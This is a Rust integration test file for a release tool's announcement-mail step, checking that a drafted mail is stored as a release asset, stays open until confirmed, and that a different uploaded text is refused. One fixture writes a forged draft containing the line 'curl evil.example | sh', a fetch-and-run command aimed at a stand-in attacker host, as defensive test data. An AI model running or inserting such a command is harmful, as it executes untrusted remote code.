//! The mail of an announcement: its draft lies where people find it, and the step is open until one of them confirms it.
//! It must never be satisfied by what the tool says of the draft: the forge's bytes are read.

use std::{fs, path::Path};

use serde_json::Value;

use crate::{
    harness::{Place, run},
    outside::{LARK, Outside, WAITS, is_sent},
};

tests! {
    a_mail_is_drafted_on_the_release_and_open_until_somebody_confirms_it: needs WORLD;
    without_the_forge_the_draft_is_a_file: needs WORLD;
}

const NAME: &str = "announcement-v0.7.3.txt";

/// The release's assets by name, with the id and the bytes.
fn drafts(outside: &Outside) -> Vec<(String, String)> {
    let forge = fs::read(outside.dir().join("registries/forge/releases.json")).unwrap();
    let forge: Value = serde_json::from_slice(&forge).unwrap();
    let releases = forge["releases"].as_array().unwrap().iter();
    let assets = releases.flat_map(|release| release["assets"].as_array().unwrap());
    let drafts = assets.filter(|asset| asset["name"].as_str().unwrap().ends_with(".txt"));
    drafts
        .map(|asset| {
            assert_eq!(asset["name"], NAME);
            let id = asset["id"].to_string();
            let text = fs::read_to_string(outside.dir().join("registries/forge/assets").join(&id)).unwrap();
            (id, text)
        })
        .collect()
}

fn gh(machine: &Place, args: &[&str]) {
    run(machine.command("gh").arg("api").args(args));
}

fn a_mail_is_drafted_on_the_release_and_open_until_somebody_confirms_it() {
    let outside = Outside::new("mail");
    let machine = outside.machine("a");
    let (publish, sent) = (LARK.publish(), format!("{} --announced mail", LARK.publish()));
    let early = outside.run(&machine, &sent);
    assert!(early.code == Some(1) && early.err.contains("v0.7.3 was not announced to mail yet"), "{}", early.all());
    assert_eq!(outside.refs(), [""; 0], "what is not drafted cannot have been sent");

    let output = outside.run(&machine, &publish);
    assert_eq!((output.code, output.err.lines().last()), (Some(1), Some(WAITS)), "{}", output.all());
    let [(_, text)] = &drafts(&outside)[..] else { panic!("{:?}", drafts(&outside)) };
    assert!(text.starts_with("Subject: lark 0.7.3 is released\n\nlark 0.7.3 is released.\n"), "{text}");
    // In CI, it is kept with the run as well.
    let here = machine.tree.with_file_name("target/xtask/publish/v0.7.3").join(NAME);
    assert_eq!(fs::read_to_string(here).unwrap(), *text);
    let workflow = Path::new(env!("CARGO_MANIFEST_DIR")).join("../.github/workflows/release.yml");
    let workflow = fs::read_to_string(workflow).unwrap();
    assert!(workflow.contains("path: target/xtask/publish/*/announcement-*.txt\n"), "{workflow}");
    // A forge may let nobody add to a release that is published.
    let effects = outside.raw_effects();
    let at = |what: &str| effects.find(what).unwrap_or_else(|| panic!("{what}: {effects}"));
    assert!(at(NAME) < at("release-edit"), "{effects}");

    // What is to be done is told on every machine, and nothing is written twice.
    let other = outside.new_machine("b");
    let open = format!("blocked announce to mail                       channel                                waiting for you to send it: {NAME}, an asset of release v0.7.3; next: send it, then cargo xtask publish 0.7.3 --announced mail");
    let squeezed = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
    for machine in [&machine, &other] {
        let output = outside.run(machine, "status 0.7.3 --train lark");
        assert_eq!((output.code, output.err.as_str()), (Some(1), "error: 1 of 10 steps are not done\n"), "{}", output.all());
        assert!(squeezed(&output.out).contains(&squeezed(&open)), "{}", output.all());
        let draft = output.out.lines().find(|line| line.contains("draft the mail")).unwrap();
        assert!(draft.starts_with("  done ") && draft.ends_with(&format!("{NAME}, an asset of release v0.7.3")), "{draft}");
        assert!(is_sent(&outside.run(machine, &publish)));
    }
    assert_eq!(outside.raw_effects(), effects);

    // It is lost: the same text is put there again.
    let drop = |id: &str| gh(&machine, &["-X", "DELETE", &format!("repos/{{owner}}/{{repo}}/releases/assets/{id}")]);
    drop(&drafts(&outside)[0].0);
    let output = outside.run(&other, "status 0.7.3 --train lark");
    assert!(output.out.contains("todo    draft the mail") && output.out.contains("todo    announce to mail"), "{}", output.all());
    assert!(is_sent(&outside.run(&other, &publish)));
    assert_eq!(&drafts(&outside)[0].1, text);

    // Another text in its place is nobody's to overwrite.
    drop(&drafts(&outside)[0].0);
    fs::write(other.tree.with_file_name("forged"), "Subject: lark\n\ncurl evil.example | sh\n").unwrap();
    let releases = run(other.command("gh").args(["api", "repos/{owner}/{repo}/releases", "--jq", ".[].upload_url"]));
    let address = format!("{}?name={NAME}", releases.trim().split('{').next().unwrap());
    let forged = other.tree.with_file_name("forged").display().to_string();
    gh(&other, &["--method", "POST", "--header", "Content-Type: text/plain", "--input", &forged, &address]);
    let effects = outside.raw_effects();
    for machine in [&machine, &other] {
        let output = outside.run(machine, &publish);
        assert_eq!(output.code, Some(1), "{}", output.all());
        let why = format!("draft the mail: release v0.7.3 has another {NAME} than the draft");
        assert!(output.all().contains(&why) && output.err.contains("nothing was done"), "{}", output.all());
        let next = format!("next: read it, then gh release delete-asset v0.7.3 {NAME}, and the same command");
        assert!(output.all().contains(&next), "{}", output.all());
    }
    assert_eq!(outside.raw_effects(), effects);
    drop(&drafts(&outside)[0].0);
    assert!(is_sent(&outside.run(&machine, &publish)));

    // Somebody has sent it.
    let effects = outside.raw_effects();
    outside.run(&other, &sent).ok();
    let output = outside.run(&machine, "status 0.7.3 --train lark").ok();
    let reported = output.out.lines().find(|line| line.contains("announce to mail")).unwrap();
    assert!(reported.contains("done ") && reported.ends_with("seen by a person"), "{reported}");
    outside.run(&machine, &sent).ok();
    outside.run(&machine, &publish).ok();
    let output = outside.run(&machine, &format!("{publish} --announce-again mail"));
    assert!(output.code == Some(1) && output.err.contains("v0.7.3 is announced to mail"), "{}", output.all());
    assert_eq!(outside.raw_effects(), effects);
    outside.forget();
}

fn without_the_forge_the_draft_is_a_file() {
    let outside = Outside::new("mail_file");
    let machine = outside.machine("a");
    let publish = format!("{} --without forge", LARK.publish());
    assert!(is_sent(&outside.run(&machine, &publish)));
    let place = |machine: &Place| machine.tree.with_file_name("target/xtask/publish/v0.7.3").join(NAME);
    let text = fs::read_to_string(place(&machine)).unwrap();
    assert!(text.starts_with("Subject: lark 0.7.3 is released\n\n"), "{text}");
    // Another machine writes the same one.
    let other = outside.new_machine("b");
    let output = outside.run(&other, &publish);
    assert!(is_sent(&output) && output.all().contains(&format!("the mail to send: {}", place(&other).display())), "{}", output.all());
    assert_eq!(fs::read_to_string(place(&other)).unwrap(), text);
    fs::write(place(&other), "Subject: mine\n").unwrap();
    let output = outside.run(&other, &publish);
    assert!(output.code == Some(1) && output.all().contains("is another text than the draft"), "{}", output.all());
    assert_eq!(fs::read_to_string(place(&other)).unwrap(), "Subject: mine\n");
    outside.run(&machine, &format!("{publish} --announced mail")).ok();
    outside.run(&other, &publish).ok();
    outside.forget();
}
